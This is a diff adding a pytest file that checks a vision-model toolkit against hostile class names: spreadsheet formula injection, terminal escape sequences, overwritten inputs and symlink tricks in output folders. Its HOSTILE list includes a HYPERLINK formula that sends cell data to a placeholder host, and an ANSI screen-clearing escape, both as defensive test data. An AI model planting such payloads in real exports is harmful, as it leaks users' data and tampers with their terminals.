@@ -1,0 +1,194 @@
+"""Results: what they replace, where they lie, and what a spreadsheet or a terminal makes of them."""
+
+import csv
+import io
+import os
+import pty
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+from PIL import Image
+from planted import Outside
+from safetensors.torch import load_file
+
+from tools import ablate, convert, draw_attention, export, predict, report, visualize
+from tools.ablating import pages, processes
+from tools.ablating.grid import read_grid
+from tools.ablating.results import collect
+from vil.config import ConfigError, ModelConfig, StageConfig
+from vil.models.zoo import model_from_config
+from vil.runtime.csv_text import csv_text
+from vil.weight_files import WeightsFile, write_safetensors
+
+ROOT = Path(__file__).parents[2]
+HOSTILE = [
+    '=HYPERLINK("http://x/?"&A1,"ok")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    " =1+1",
+    "\x1b[2Jok",
+]
+
+
+@pytest.fixture(scope="module")
+def weights(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A small model whose classes have hostile names."""
+    path = tmp_path_factory.mktemp("weights") / "model.safetensors"
+    stage = StageConfig(dim=8, heads=2, blocks=1, patch=4, attention="full")
+    config = ModelConfig(name="vil", stages=[stage], image_size=16, num_classes=len(HOSTILE))
+    torch.manual_seed(0)
+    model = model_from_config(config)
+    data = {"mean": [0.5] * 3, "std": [0.5] * 3}
+    write_safetensors(
+        path, WeightsFile(str(path), "run", "raw", model.state_dict(), config, data, tuple(HOSTILE))
+    )
+    return path
+
+
+@pytest.fixture
+def image(tmp_path: Path) -> Path:
+    Image.new("RGB", (16, 16), "red").save(tmp_path / "image.png")
+    return tmp_path / "image.png"
+
+
+def test_formulas_become_texts():
+    rows = list(csv.reader(io.StringIO(csv_text([HOSTILE, [1, -2.5, None, "", "a-b"]]))))
+    assert all(cell.startswith("'") for cell in rows[0][:-1])
+    assert [cell.removeprefix("'") for cell in rows[0]] == HOSTILE
+    assert rows[1] == ["1", "-2.5", "", "", "a-b"]
+
+
+def test_class_names_in_a_csv_of_predictions(weights: Path, image: Path, tmp_path: Path):
+    output = tmp_path / "out.csv"
+    predict.predict([str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu",
+                     "--format", "csv", "--output", str(output)])  # fmt: skip
+    with output.open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert len(rows) == len(HOSTILE)
+    for row in rows:
+        for cell in row.values():
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("form", ["csv", "json", "table"])
+def test_nothing_steers_the_terminal(weights: Path, image: Path, form: str):
+    master, terminal = pty.openpty()
+    words = [sys.executable, "tools/predict.py", str(weights), str(image), "--top", "99", "--workers", "0",
+             "--device", "cpu", "--format", form]  # fmt: skip
+    done = subprocess.run(words, cwd=ROOT, stdout=terminal, stderr=subprocess.DEVNULL, timeout=300)
+    os.close(terminal)
+    shown = b""
+    try:
+        while part := os.read(master, 4096):
+            shown += part
+    except OSError:  # the end of a terminal
+        pass
+    os.close(master)
+    assert done.returncode == 0
+    assert b"[2Jok" in shown
+    assert b"\x1b" not in shown
+
+
+def refused(program, words, *paths: Path) -> None:
+    before = [path.read_bytes() for path in paths]
+    with pytest.raises(ConfigError, match="is an input of this command"):
+        program(list(map(str, words)))
+    assert [path.read_bytes() for path in paths] == before
+
+
+def test_inputs_are_not_replaced(weights: Path, image: Path, tmp_path: Path):
+    copy = tmp_path / "copy.safetensors"
+    copy.write_bytes(weights.read_bytes())
+    (tmp_path / "link").symlink_to(copy)
+    line = [copy, image, "--workers", "0", "--device", "cpu", "--output"]
+    for output in (copy, image, tmp_path / "link"):
+        refused(predict.predict, [*line, output], copy, image)
+    refused(predict.predict, [copy, tmp_path, *line[2:], image], copy, image)  # an image of a folder
+    for output in (copy, tmp_path / "link"):
+        refused(convert.convert, [copy, output], copy)
+        refused(export.export, [copy, output, "--format", "safetensors"], copy)
+    hub = tmp_path / "hub"
+    hub.mkdir()
+    copy.rename(hub / "model.safetensors")
+    refused(export.export, [hub / "model.safetensors", hub, "--format", "hf"], hub / "model.safetensors")
+    sheets = tmp_path / "sheets"
+    sheets.mkdir()
+    image.rename(sheets / "stage1_rollout.png")
+    words = [weights, sheets / "stage1_rollout.png", "--output", sheets]
+    refused(visualize.visualize, words, sheets / "stage1_rollout.png")
+
+
+def test_files_of_a_run_are_not_replaced(tmp_path: Path):
+    import eval as eval_program
+
+    (tmp_path / "checkpoints").mkdir()
+    for name in ("config.yaml", "metrics.jsonl", "checkpoints/best.pt"):
+        (tmp_path / name).write_text("{}\n")
+        refused(report.report, [tmp_path, "--output", tmp_path / name], tmp_path / name)
+        words = ["--checkpoint", tmp_path, "--data.source", "digits", "--json", tmp_path / name]
+        refused(eval_program.evaluate, words, tmp_path / name)
+
+
+GRID = "base: {config: configs/models/vil_32.yaml}\nfactors: {a: {x: , y: {seed: 1}}}\nseeds: [0]\n"
+
+
+@pytest.mark.parametrize("name", ["...yaml", "..yaml", ".hidden.yaml", "a b  c.yaml", "-x.yaml"])
+def test_a_grid_writes_into_its_own_folder(tmp_path: Path, name: str):
+    (tmp_path / name).write_text(GRID)
+    with pytest.raises(ConfigError, match="cannot name a folder of results; rename the file"):
+        ablate.ablate([str(tmp_path / name), "--output", str(tmp_path / "a" / "b"), "--report"])
+    assert os.listdir(tmp_path) == [name]
+
+
+def small_grid(folder: Path):
+    (folder / "grid.yaml").write_text(
+        "base: {data.source: digits}\nseeds: [0]\n"
+        "factors: {a: {x: {schedule.epochs: 1}, y: {schedule.epochs: 2}}}\n"
+    )
+    return read_grid(str(folder / "grid.yaml"), folder / "output")
+
+
+def test_links_in_the_folder_of_a_grid(tmp_path: Path):
+    outside, grid = Outside(tmp_path / "outside"), small_grid(tmp_path)
+    (tmp_path / "output").mkdir()
+    outside.plant(tmp_path / "output" / "grid", is_folder=True, exists=True)
+    with pytest.raises(ConfigError, match="symbolic link"):
+        pages.write_results(grid, collect(grid), "command")
+    with pytest.raises(ConfigError, match="symbolic link"):
+        processes._take(grid.runs()[0], 0, {}, None)
+    assert outside.changes() == []
+
+
+@pytest.mark.parametrize("name", [".ablate.lock", "log.txt", "errors.txt"])
+def test_links_in_the_folder_of_a_cell(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch):
+    outside, run = Outside(tmp_path / "outside"), small_grid(tmp_path).runs()[0]
+    run.folder.mkdir(parents=True)
+    outside.plant(run.folder / name, is_folder=False, exists=True)
+    monkeypatch.setattr(processes, "PROGRAM", ["true"])
+
+    class Silent:
+        def started(self, run):
+            pass
+
+    with pytest.raises(ConfigError, match=f"{name} cannot be written: is a symbolic link"):
+        processes._take(run, 0, dict(os.environ), Silent())
+    assert outside.changes() == []
+
+
+def test_links_in_other_folders_of_results(tmp_path: Path, weights: Path, monkeypatch: pytest.MonkeyPatch):
+    outside = Outside(tmp_path / "outside")
+    for name in ("config.json", "model.safetensors"):
+        outside.plant(tmp_path / name, is_folder=False, exists=True)
+    export.export([str(weights), str(tmp_path), "--format", "hf"])
+    assert outside.changes() == []
+    assert load_file(tmp_path / "model.safetensors")
+    outside.plant(tmp_path / "masks.png", is_folder=False, exists=True)
+    monkeypatch.setattr(draw_attention, "FIGURES", {"masks": draw_attention.draw_neighbors})
+    draw_attention.draw(["--folder", str(tmp_path)])
+    assert outside.changes() == []
